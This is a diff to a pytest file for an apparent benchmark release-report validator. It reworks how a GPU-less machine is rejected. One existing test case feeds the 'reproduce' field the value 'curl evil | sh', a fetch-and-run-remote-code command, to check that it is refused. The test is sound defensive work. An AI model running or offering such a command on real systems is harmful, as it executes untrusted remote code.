@@ -7,7 +7,7 @@ import functools
 import pytest
 
 from benchmarks._engine.report import release_issue, release_text
-from benchmarks._engine.report.artifact import ArtifactError, NoGpuError, Request
+from benchmarks._engine.report.artifact import ArtifactError, Request
 from benchmarks._engine.report.release_issue import MARKER, Call, Issue
 from benchmarks._engine.verdict import release
 from benchmarks._engine.verdict.note import Note
@@ -100,6 +100,7 @@ NOT_BETWEEN = "a commit comes twice, or is none between the baseline and main"
     ("change", "message"),
     [
         (changed(*OF_MAIN, "base", OTHER_SIDE), NOT_ASKED),
+        (changed(*OF_MAIN, "machine", "machine", "no-gpu-x86_64"), "the GPU nvidia-h200 was not"),
         (changed(*OF_STEP, "machine", "machine", "nvidia-a100"), "the GPU nvidia-h200 was not"),
         (changed(*OF_STEP, "reproduce", "curl evil | sh"), "it gives another command"),
         (lambda document: document["steps"].append(document["steps"][0]), NOT_BETWEEN),
@@ -122,13 +123,6 @@ def test_a_pass_has_no_steps(history, shas):
     step = Step(shas[1], None)
     with pytest.raises(ArtifactError, match="no commit between was to be measured"):
         read(history, shas, release.to_json(SinceRelease(made, (step,))))
-
-
-def test_a_gpu_that_was_not_there_is_no_answer(history, shas):
-    machine = {"machine": "no-gpu-x86_64", "gpu": "none"}
-    made = dataclasses.replace(of(job_passing(), shas[0], shas[-1]), machine=machine)
-    with pytest.raises(NoGpuError):
-        read(history, shas, release.to_json(SinceRelease(made)))
 
 
 # --- what it says ---------------------------------------------------------------------------------
